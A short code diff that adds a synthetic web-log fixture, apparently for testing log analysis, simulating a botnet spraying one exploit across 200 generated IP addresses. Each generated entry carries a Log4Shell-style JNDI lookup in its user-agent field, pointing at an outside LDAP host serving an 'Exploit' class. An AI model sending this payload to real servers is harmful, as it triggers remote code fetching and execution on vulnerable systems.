@@ -340,3 +340,10 @@ export function dumpDownload(): Partial<WebSet> {
     ],
   };
 }
+
+/** A botnet spraying one exploit: 200 addresses, each one request with the same JNDI lookup in its user agent, over six hours. */
+export function exploitSpray(): Partial<WebSet> {
+  const out: Req[] = [];
+  for (let s = 0; s < 200; s++) out.push({ ts: DAY0 + 6 * HOUR + s * 107 * SEC, ip: `${[139, 159, 164, 167][s % 4]}.${(s * 3) % 250}.${(s * 11) % 250}.${(s % 250) + 1}`, url: '/', status: 200, bytes: 31000, ua: '${jndi:ldap://45.83.193.150:1389/Exploit}' });
+  return { nginx: out };
+}
